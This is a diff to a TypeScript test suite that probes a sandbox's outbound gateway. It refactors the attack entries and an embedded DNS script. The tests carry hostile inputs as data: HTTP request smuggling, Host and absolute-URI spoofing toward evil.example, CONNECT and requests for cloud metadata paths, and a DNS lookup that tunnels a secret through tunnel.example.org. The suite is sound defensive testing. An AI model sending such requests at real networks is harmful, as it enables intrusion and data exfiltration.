@@ -1,13 +1,13 @@
 import { expect } from "vitest"
 import type { Attack, Battlefield, Contained } from "../Attack.ts"
-import { CAPABILITY, onGround, sendRaw, type Ground } from "../egress-ground.ts"
+import { CAPABILITY, WITH_GATEWAY, onGround, sendRaw, type Ground } from "../egress-ground.ts"
 
 /*
  * Group 18, and of group 9 what concerns names and metadata. The doors are the daemon's under bubblewrap; in a container the platform's
  * outbound handler judges by the same policy (`packages/core/src/domain/egress-policy.ts`, judgeOutbound).
  */
 
-const DAEMON = ["bubblewrap"] as const
+const DAEMON = { isolators: ["bubblewrap"], session: WITH_GATEWAY } as const
 const crlf = (...lines: ReadonlyArray<string>) => lines.join("\r\n") + "\r\n\r\n"
 const statusOf = (answer: string): string => /^HTTP\/1\.1 (\d{3})/.exec(answer)?.[1] ?? "closed"
 const tally = (values: ReadonlyArray<string>): string =>
@@ -164,19 +164,19 @@ const within = (
   group: number,
   run: (ground: Ground, field: Battlefield) => Promise<Contained>,
   more: Partial<Attack> = {},
-): Attack => ({ group, name, isolators: DAEMON, run: (field) => onGround(field, (ground) => run(ground, field)), ...more })
+): Attack => ({ group, name, ...DAEMON, run: (field) => onGround(field, (ground) => run(ground, field)), ...more })
 
 export const egress: ReadonlyArray<Attack> = [
   {
     group: 18,
     name: "another host in the Host header",
-    isolators: DAEMON,
+    ...DAEMON,
     run: refusedAtGateway(hostileHosts.map((host) => crlf("GET / HTTP/1.1", `Host: ${host}`))),
   },
   {
     group: 18,
     name: "an absolute URI or CONNECT at a gateway",
-    isolators: DAEMON,
+    ...DAEMON,
     run: refusedAtGateway([
       ...["http://api.github.com/", "https://git.loom.internal/", "http://git.loom.internal/x", "//evil.example/"].map((target) =>
         crlf(`GET ${target} HTTP/1.1`, "Host: git.loom.internal"),
@@ -189,7 +189,7 @@ export const egress: ReadonlyArray<Attack> = [
   {
     group: 18,
     name: "paths that say one thing and mean another",
-    isolators: DAEMON,
+    ...DAEMON,
     run: refusedAtGateway(paths.map((path) => crlf(`GET ${path} HTTP/1.1`, "Host: git.loom.internal"))),
   },
   within("requests smuggled behind two lengths, folds and bare line feeds", 18, async ({ session, upstream }) => {
@@ -202,17 +202,17 @@ export const egress: ReadonlyArray<Attack> = [
     ).toBe(true)
     return { by: "strict HTTP parser", evidence: `${smuggling.length} requests: ${tally(statuses)}; the upstream heard ${upstream.length}` }
   }),
-  { group: 18, name: "no HTTP/1.1: 0.9, 2, upgrades, two hosts, headers without end", isolators: DAEMON, run: refusedAtGateway(odd) },
+  { group: 18, name: "no HTTP/1.1: 0.9, 2, upgrades, two hosts, headers without end", ...DAEMON, run: refusedAtGateway(odd) },
   {
     group: 18,
     name: "CONNECT to addresses in every spelling, odd ports, look-alikes",
-    isolators: DAEMON,
+    ...DAEMON,
     run: refusedAtRegistry((authority) => crlf(`CONNECT ${authority} HTTP/1.1`, `Host: ${authority}`)),
   },
   {
     group: 18,
     name: "absolute URIs to the same, through the proxy",
-    isolators: DAEMON,
+    ...DAEMON,
     run: refusedAtRegistry((authority) => crlf(`GET http://${authority}/latest/meta-data/ HTTP/1.1`, "Host: localhost")),
   },
   within("a listed name that points at this machine", 18, async ({ session }, { canaries }) => {
@@ -302,7 +302,8 @@ Promise.all([ask("evil.example"), ask("localhost.evil.example"), ask("")]).then(
   }),
   within("names: look-ups, tunnels in them, resolvers elsewhere, DNS over HTTPS", 9, async ({ session }) => {
     const secret = "736563726574".repeat(4)
-    const script = `const dgram = require("node:dgram"), dns = require("node:dns").promises
+    const script = `import dgram from "node:dgram"
+import { promises as dns } from "node:dns"
 const say = (name) => (e) => console.log(name, e.code ?? e)
 const ask = (server) => { const r = new dns.Resolver({ timeout: 500, tries: 1 }); r.setServers([server]); return r.resolve("example.com").catch(say(server)) }
 await dns.lookup("${secret}.tunnel.example.org").catch(say("lookup"))
